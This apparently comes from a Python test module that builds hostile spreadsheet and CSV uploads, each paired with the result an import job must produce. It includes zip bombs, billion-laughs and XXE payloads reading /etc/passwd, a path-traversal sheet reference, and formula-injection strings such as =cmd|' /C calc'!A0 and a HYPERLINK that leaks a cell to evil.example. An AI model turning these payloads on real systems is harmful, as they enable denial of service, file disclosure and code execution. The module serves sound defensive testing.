"""A corpus of hostile upload files, each built into a directory by code (never committed
binaries), with the outcome the import must give it.

`CASES` is a list of `Case(name, build, expected)`: `build(directory) -> Path` writes the file;
`expected` is one of

    Failed(code, line=None)          the job fails with this FILE_MESSAGES code (and line)
    Rejected(rows, code, imported)   `rows` rows rejected with this row-error code, `imported`
                                     rows created
    Imported(rows)                   `rows` rows created, nothing rejected

tests/imports/test_hostile_files.py runs every case through a real import job;
tests/imports/test_hostile_worker.py sends the bombs to a real Celery worker and bounds its
memory.
"""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook

from tests.imports.files import THAI_HEADERS, good_row, write_xlsx

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True)
class Failed:
    code: str
    line: int | None = None


@dataclass(frozen=True)
class Rejected:
    rows: int
    code: str
    imported: int


@dataclass(frozen=True)
class Imported:
    rows: int


@dataclass(frozen=True)
class Case:
    name: str
    build: object
    expected: object
    bomb: bool = False


# ---------------------------------------------------------------------------------------------
# Raw xlsx packages


def _cell_xml(ref: str, value) -> str:
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = str(value).replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _col(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def sheet_xml(rows, *, prolog: str = "") -> str:
    body = "".join(
        f'<row r="{r}">' + "".join(_cell_xml(f"{_col(c)}{r}", v) for c, v in enumerate(row))
        + "</row>"
        for r, row in enumerate(rows, start=1)
    )  # fmt: skip
    return (
        f'<?xml version="1.0"?>{prolog}<worksheet xmlns="{MAIN_NS}">'
        f"<sheetData>{body}</sheetData></worksheet>"
    )


def _workbook_xml(prolog: str = "", sheets=(("Sheet1", "rId1", ""),)) -> str:
    items = "".join(
        f'<sheet name="{name}" sheetId="{i}" r:id="{rid}"{state}/>'
        for i, (name, rid, state) in enumerate(sheets, start=1)
    )
    return (
        f'<?xml version="1.0"?>{prolog}<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">'
        f"<sheets>{items}</sheets></workbook>"
    )


def _rels_xml(targets=("worksheets/sheet1.xml",)) -> str:
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="{t}"/>'
        for i, t in enumerate(targets, start=1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{PKG_NS}">{items}</Relationships>'


def raw_xlsx(path: Path, members: dict[str, object]) -> Path:
    """A package from member name → str/bytes, or a callable writing chunks (for big members)."""
    base = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
        "xl/workbook.xml": _workbook_xml(),
        "xl/_rels/workbook.xml.rels": _rels_xml(),
    }
    base.update(members)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in base.items():
            if callable(content):
                with archive.open(name, "w", force_zip64=True) as handle:
                    content(handle)
            else:
                archive.writestr(name, content)
    return path


def _header_and_rows(n: int = 3):
    return [THAI_HEADERS, *[good_row(i) for i in range(1, n + 1)]]


def _repeat(piece: bytes, total: int):
    def write(handle):
        block = piece * max(1, (1 << 20) // len(piece))
        written = 0
        while written < total:
            handle.write(block)
            written += len(block)

    return write


# ---------------------------------------------------------------------------------------------
# Builders


def bomb_ratio_sheet(d: Path) -> Path:
    """The worksheet inflates 1000×: 200 MiB of blank space in the XML (a 200 KiB file)."""
    head = sheet_xml(_header_and_rows()).split("</sheetData>")[0].encode()

    def write(handle):
        handle.write(head)
        _repeat(b" " * 4096, 200 << 20)(handle)
        handle.write(b"</sheetData></worksheet>")

    return raw_xlsx(d / "bomb_ratio.xlsx", {"xl/worksheets/sheet1.xml": write})


def bomb_unused_member(d: Path) -> Path:
    """A member the reader never needs (an 'image') inflates to 300 MiB of zeros."""
    return raw_xlsx(
        d / "bomb_media.xlsx",
        {
            "xl/worksheets/sheet1.xml": sheet_xml(_header_and_rows()),
            "xl/media/image1.png": _repeat(b"\x00" * 4096, 300 << 20),
        },
    )


def bomb_shared_strings(d: Path) -> Path:
    """Five million tiny shared strings (100 MiB of XML, compressed to well under 1 MiB)."""

    def write(handle):
        handle.write(f'<?xml version="1.0"?><sst xmlns="{MAIN_NS}">'.encode())
        _repeat(b"<si><t>a</t></si>" * 64, 100 << 20)(handle)
        handle.write(b"</sst>")

    return raw_xlsx(
        d / "bomb_shared.xlsx",
        {
            "xl/worksheets/sheet1.xml": sheet_xml(_header_and_rows()),
            "xl/sharedStrings.xml": write,
        },
    )


def bomb_many_rows(d: Path) -> Path:
    """Rows numbered past Excel's 1,048,576 (the reader counts row numbers as it streams)."""
    xml = sheet_xml(_header_and_rows()).replace(
        "</sheetData>", '<row r="1048578"><c r="A1048578"><v>1</v></c></row></sheetData>'
    )
    return raw_xlsx(d / "bomb_rows.xlsx", {"xl/worksheets/sheet1.xml": xml})


def bomb_far_column(d: Path) -> Path:
    """One cell at column XFD (16,384): placing it would build a 16,384-cell row per row."""
    xml = sheet_xml(_header_and_rows()).replace(
        '<row r="2">', '<row r="2"><c r="XFD2"><v>1</v></c>', 1
    )
    return raw_xlsx(d / "bomb_far_column.xlsx", {"xl/worksheets/sheet1.xml": xml})


def bomb_many_columns(d: Path) -> Path:
    """A header row of 5,000 columns."""
    rows = _header_and_rows()
    rows[0] = rows[0] + [f"c{i}" for i in range(5000)]
    return raw_xlsx(d / "bomb_columns.xlsx", {"xl/worksheets/sheet1.xml": sheet_xml(rows)})


def bomb_row_without_end(d: Path) -> Path:
    """A row that never ends: 80 MiB of cells without </row>, compressed 20×-ish (under the
    ratio limit), so only the reader's row-size limit stops it."""
    head = f'<?xml version="1.0"?><worksheet xmlns="{MAIN_NS}"><sheetData><row r="1">'.encode()

    def write(handle):
        handle.write(head)
        written, n = 0, 0
        while written < 80 << 20:
            piece = "".join(f'<c r="A1"><v>{n + i}</v></c>' for i in range(20000)).encode()
            handle.write(piece)
            written += len(piece)
            n += 20000

    return raw_xlsx(d / "bomb_endless_row.xlsx", {"xl/worksheets/sheet1.xml": write})


_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)


def billion_laughs_shared(d: Path) -> Path:
    shared = f'<?xml version="1.0"?>{_LAUGHS}<sst xmlns="{MAIN_NS}"><si><t>&lol9;</t></si></sst>'
    return raw_xlsx(
        d / "laughs_shared.xlsx",
        {"xl/worksheets/sheet1.xml": sheet_xml(_header_and_rows()), "xl/sharedStrings.xml": shared},
    )


def billion_laughs_workbook(d: Path) -> Path:
    return raw_xlsx(
        d / "laughs_workbook.xlsx",
        {
            "xl/workbook.xml": _workbook_xml(_LAUGHS),
            "xl/worksheets/sheet1.xml": sheet_xml(_header_and_rows()),
        },
    )


def billion_laughs_sheet(d: Path) -> Path:
    rows = _header_and_rows()
    rows[1][3] = "&lol9;"
    xml = sheet_xml(rows, prolog=_LAUGHS).replace("&amp;lol9;", "&lol9;")
    return raw_xlsx(d / "laughs_sheet.xlsx", {"xl/worksheets/sheet1.xml": xml})


def external_entity(d: Path) -> Path:
    shared = (
        '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f'<sst xmlns="{MAIN_NS}"><si><t>&xxe;</t></si></sst>'
    )
    return raw_xlsx(
        d / "xxe.xlsx",
        {"xl/worksheets/sheet1.xml": sheet_xml(_header_and_rows()), "xl/sharedStrings.xml": shared},
    )


def _with_hidden_first(d: Path, state: str) -> Path:
    workbook = Workbook()
    hidden = workbook.active
    hidden.title = "lookup"
    hidden.append(THAI_HEADERS)
    for n in range(100, 110):
        hidden.append(good_row(n))
    hidden.sheet_state = state
    data = workbook.create_sheet("ทะเบียน")
    data.append(THAI_HEADERS)
    for n in range(1, 5):
        data.append(good_row(n))
    workbook.active = 1
    path = d / f"{state}_first.xlsx"
    workbook.save(path)
    return path


def hidden_first_sheet(d: Path) -> Path:
    return _with_hidden_first(d, "hidden")


def very_hidden_first_sheet(d: Path) -> Path:
    return _with_hidden_first(d, "veryHidden")


FORMULAS = {
    "cmd": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


def formula_xlsx(key: str):
    def build(d: Path) -> Path:
        rows = [good_row(n) for n in range(1, 4)]
        rows[1][5] = FORMULAS[key]  # as the birth date: the row is rejected, the value reported
        # As text cells (a csv export opened and saved gives these): the value is the text.
        xml = sheet_xml([THAI_HEADERS, *rows])
        return raw_xlsx(d / f"formula_{key}.xlsx", {"xl/worksheets/sheet1.xml": xml})

    build.formula = FORMULAS[key]
    return build


def _csv_bytes(rows, delimiter=",") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(THAI_HEADERS)
    for row in rows:
        writer.writerow(row)
    return buffer.getvalue()


def mixed_encoding_csv(d: Path) -> Path:
    """Lines 1–3 UTF-8, line 4 TIS-620: the Excel-after-copy-paste file."""
    text = _csv_bytes([good_row(n) for n in range(1, 5)])
    lines = text.splitlines(keepends=True)
    data = "".join(lines[:3]).encode("utf-8") + "".join(lines[3:]).encode("cp874")
    path = d / "mixed.csv"
    path.write_bytes(data)
    return path


def cp874_csv(d: Path) -> Path:
    path = d / "tis620.csv"
    path.write_bytes(_csv_bytes([good_row(n) for n in range(1, 6)]).encode("cp874"))
    return path


def cp874_with_undefined_byte(d: Path) -> Path:
    """TIS-620 text with a byte (0xDB) that no Thai code page defines, on line 3."""
    lines = _csv_bytes([good_row(n) for n in range(1, 4)]).encode("cp874").split(b"\n")
    lines[2] = lines[2].replace(b",", b"\xdb,", 1)
    path = d / "undefined_byte.csv"
    path.write_bytes(b"\n".join(lines))
    return path


def utf16_csv(d: Path) -> Path:
    path = d / "utf16.csv"
    path.write_bytes(_csv_bytes([good_row(n) for n in range(1, 4)]).encode("utf-16"))
    return path


def bom_csv(d: Path) -> Path:
    path = d / "bom.csv"
    path.write_bytes(_csv_bytes([good_row(n) for n in range(1, 4)]).encode("utf-8-sig"))
    return path


def long_cell_csv(d: Path) -> Path:
    """Row 3 holds a 200,000-character name (over csv's default 131,072 limit)."""
    rows = [good_row(n) for n in range(1, 5)]
    rows[1][3] = "ก" * 200_000
    path = d / "long_cell.csv"
    path.write_text(_csv_bytes(rows), encoding="utf-8")
    return path


def long_cell_xlsx(d: Path) -> Path:
    rows = [good_row(n) for n in range(1, 5)]
    rows[1][3] = "ก" * 40_000
    return raw_xlsx(
        d / "long_cell.xlsx", {"xl/worksheets/sheet1.xml": sheet_xml([THAI_HEADERS, *rows])}
    )


def delimiter_csv(delimiter: str, name: str):
    def build(d: Path) -> Path:
        path = d / f"{name}.csv"
        path.write_text(_csv_bytes([good_row(n) for n in range(1, 5)], delimiter), encoding="utf-8")
        return path

    return build


def hyperlink_semicolon_csv(d: Path) -> Path:
    """A comma file whose one cell is =HYPERLINK("a";"b"): the `;` must not become the
    delimiter (it gave "no header row")."""
    rows = [good_row(n) for n in range(1, 4)]
    rows[0][6] = '=HYPERLINK("a";"b")'
    path = d / "hyperlink_semicolon.csv"
    path.write_text(_csv_bytes(rows), encoding="utf-8")
    return path


def quoted_newlines_csv(d: Path) -> Path:
    rows = [good_row(n) for n in range(1, 4)]
    rows[0][6] = "12/1\nซอยวัด"
    path = d / "quoted_newlines.csv"
    path.write_text(_csv_bytes(rows), encoding="utf-8")
    return path


def title_row_above_header(d: Path) -> Path:
    return write_xlsx(
        d / "title_row.xlsx",
        [good_row(n) for n in range(1, 4)],
        title_rows=["ทะเบียนผู้มีรายได้น้อย ปี 2569", "จังหวัดมุกดาหาร"],
    )


def merged_title_header(d: Path) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["ข้อมูลบุคคล"] + [""] * 4 + ["ที่อยู่"] + [""] * 7)
    sheet.merge_cells("A1:E1")
    sheet.merge_cells("F1:M1")
    sheet.append(THAI_HEADERS)
    for n in range(1, 4):
        sheet.append(good_row(n))
    path = d / "merged_title.xlsx"
    workbook.save(path)
    return path


def two_row_header(d: Path) -> Path:
    """National ID and first name merged down over two header rows; the other headers in the
    second row under a group title ("ที่อยู่")."""
    workbook = Workbook()
    sheet = workbook.active
    top = ["ลำดับ", "เลขประจำตัวประชาชน", "คำนำหน้า", "ชื่อ", "ข้อมูลบุคคล", "วันเกิด", "ที่อยู่"]
    sheet.append(top + [""] * (len(THAI_HEADERS) - len(top)))
    second = [""] * 4 + THAI_HEADERS[4:5] + [""] + THAI_HEADERS[6:]
    sheet.append(second)
    for column in "ABCDF":
        sheet.merge_cells(f"{column}1:{column}2")
    sheet.merge_cells("G1:M1")
    for n in range(1, 4):
        sheet.append(good_row(n))
    path = d / "two_row_header.xlsx"
    workbook.save(path)
    return path


def empty_sheet(d: Path) -> Path:
    return raw_xlsx(d / "empty_sheet.xlsx", {"xl/worksheets/sheet1.xml": sheet_xml([])})


def only_headers(d: Path) -> Path:
    return write_xlsx(d / "only_headers.xlsx", [])


def only_headers_csv(d: Path) -> Path:
    path = d / "only_headers.csv"
    path.write_text(_csv_bytes([]), encoding="utf-8")
    return path


def truncated_zip(d: Path) -> Path:
    whole = write_xlsx(d / "whole.xlsx", [good_row(n) for n in range(1, 50)])
    path = d / "truncated.xlsx"
    path.write_bytes(whole.read_bytes()[: whole.stat().st_size // 2])
    return path


def png_named_xlsx(d: Path) -> Path:
    path = d / "photo.xlsx"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    return path


def password_protected(d: Path) -> Path:
    from tests.imports.test_readers import encrypted_office_file

    path = d / "locked.xlsx"
    path.write_bytes(encrypted_office_file())
    return path


def zip_encrypted_member(d: Path) -> Path:
    """A zip whose worksheet member carries the 'encrypted' flag (a password-zipped file)."""
    path = raw_xlsx(
        d / "zip_password.xlsx", {"xl/worksheets/sheet1.xml": sheet_xml(_header_and_rows())}
    )
    data = bytearray(path.read_bytes())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (index := data.find(signature, start)) >= 0:
            data[index + flag_offset] |= 0x1
            start = index + 4
    path.write_bytes(bytes(data))
    return path


def xls_renamed_garbage(d: Path) -> Path:
    """An OLE container (the .xls family) that holds no workbook, renamed .xlsx."""
    data = bytearray(encrypted_like_ole())
    path = d / "renamed.xlsx"
    path.write_bytes(bytes(data))
    return path


def encrypted_like_ole() -> bytes:
    from tests.imports.test_readers import encrypted_office_file

    return (
        encrypted_office_file()
        .replace(
            "EncryptionInfo".encode("utf-16-le"), "SummaryInfoXX".encode("utf-16-le") + b"\x00\x00"
        )
        .replace("EncryptedPackage".encode("utf-16-le"), "Whatever_Stream1".encode("utf-16-le"))
    )


def null_bytes_csv(d: Path) -> Path:
    path = d / "nulls.csv"
    path.write_bytes(_csv_bytes([good_row(1)]).encode() + b"\x00" * 100)
    return path


def too_many_columns_csv(d: Path) -> Path:
    path = d / "wide.csv"
    header = ",".join(THAI_HEADERS + [f"c{i}" for i in range(2000)])
    path.write_text(header + "\n" + ",".join(map(str, good_row(1))) + "\n", encoding="utf-8")
    return path


def sheet_path_traversal(d: Path) -> Path:
    """The workbook points its sheet outside the package ("../../etc/passwd")."""
    return raw_xlsx(
        d / "traversal.xlsx",
        {"xl/_rels/workbook.xml.rels": _rels_xml(("../../../etc/passwd",))},
    )


def zlib_garbage_member(d: Path) -> Path:
    """The worksheet's compressed bytes are corrupted (CRC/inflate errors while streaming)."""
    path = write_xlsx(d / "corrupt_source.xlsx", [good_row(n) for n in range(1, 200)])
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra) + 50
    for i in range(start, min(start + 400, len(data))):
        data[i] ^= 0x5A
    out = d / "corrupt.xlsx"
    out.write_bytes(bytes(data))
    return out


N_GOOD = 3

CASES: list[Case] = [
    Case("zip bomb: worksheet inflates 1000x", bomb_ratio_sheet, Failed("zip_bomb"), bomb=True),
    Case("zip bomb: unused member of 300 MiB", bomb_unused_member, Failed("zip_bomb"), bomb=True),
    Case("zip bomb: huge shared strings", bomb_shared_strings, Failed("zip_bomb"), bomb=True),
    Case("rows past Excel's maximum", bomb_many_rows, Failed("too_many_rows"), bomb=True),
    Case("a cell at column XFD", bomb_far_column, Failed("too_many_columns"), bomb=True),
    Case("5,000 columns", bomb_many_columns, Failed("too_many_columns"), bomb=True),
    Case("a row that never ends", bomb_row_without_end, Failed("too_many_columns"), bomb=True),
    Case(
        "billion laughs in shared strings", billion_laughs_shared, Failed("xml_entities"), bomb=True
    ),
    Case(
        "billion laughs in workbook.xml", billion_laughs_workbook, Failed("xml_entities"), bomb=True
    ),
    Case(
        "billion laughs in the worksheet", billion_laughs_sheet, Failed("xml_entities"), bomb=True
    ),
    Case("external entity (XXE)", external_entity, Failed("xml_entities")),
    Case("hidden first sheet", hidden_first_sheet, Imported(4)),
    Case("very hidden first sheet", very_hidden_first_sheet, Imported(4)),
    *[
        Case(f"formula in a cell: {key}", formula_xlsx(key), Rejected(1, "*", 2))
        for key in FORMULAS
    ],
    Case("mixed encodings csv", mixed_encoding_csv, Failed("mixed_encoding", line=4)),
    Case("cp874 csv", cp874_csv, Imported(5)),
    Case(
        "cp874 csv with an undefined byte",
        cp874_with_undefined_byte,
        Failed("bad_encoding", line=3),
    ),
    Case("UTF-16 csv", utf16_csv, Imported(3)),
    Case("UTF-8 BOM csv", bom_csv, Imported(3)),
    Case("a csv cell of 200,000 characters", long_cell_csv, Rejected(1, "cell_too_long", 3)),
    Case("an xlsx cell of 40,000 characters", long_cell_xlsx, Rejected(1, "cell_too_long", 3)),
    Case("semicolon-delimited csv", delimiter_csv(";", "semicolon"), Imported(4)),
    Case("pipe-delimited csv", delimiter_csv("|", "pipe"), Imported(4)),
    Case("tab-delimited csv", delimiter_csv("\t", "tab"), Imported(4)),
    Case('=HYPERLINK("a";"b") in a comma csv', hyperlink_semicolon_csv, Imported(3)),
    Case("quoted newline in a cell", quoted_newlines_csv, Imported(3)),
    Case("two title rows above the header", title_row_above_header, Imported(3)),
    Case("merged title row above the header", merged_title_header, Imported(3)),
    Case("header over two rows (merged cells)", two_row_header, Imported(3)),
    Case("empty sheet", empty_sheet, Failed("empty")),
    Case("only headers (xlsx)", only_headers, Failed("empty")),
    Case("only headers (csv)", only_headers_csv, Failed("empty")),
    Case("truncated zip", truncated_zip, Failed("truncated")),
    Case("a PNG named .xlsx", png_named_xlsx, Failed("not_spreadsheet")),
    Case("password protected workbook", password_protected, Failed("password_protected")),
    Case("password-zipped member", zip_encrypted_member, Failed("password_protected")),
    Case("an OLE file without a workbook", xls_renamed_garbage, Failed("truncated")),
    Case("null bytes in a csv", null_bytes_csv, Failed("not_spreadsheet")),
    Case("2,000 columns in a csv", too_many_columns_csv, Failed("too_many_columns")),
    Case("sheet path outside the package", sheet_path_traversal, Failed("unreadable")),
    Case("corrupted worksheet bytes", zlib_garbage_member, Failed("truncated")),
]
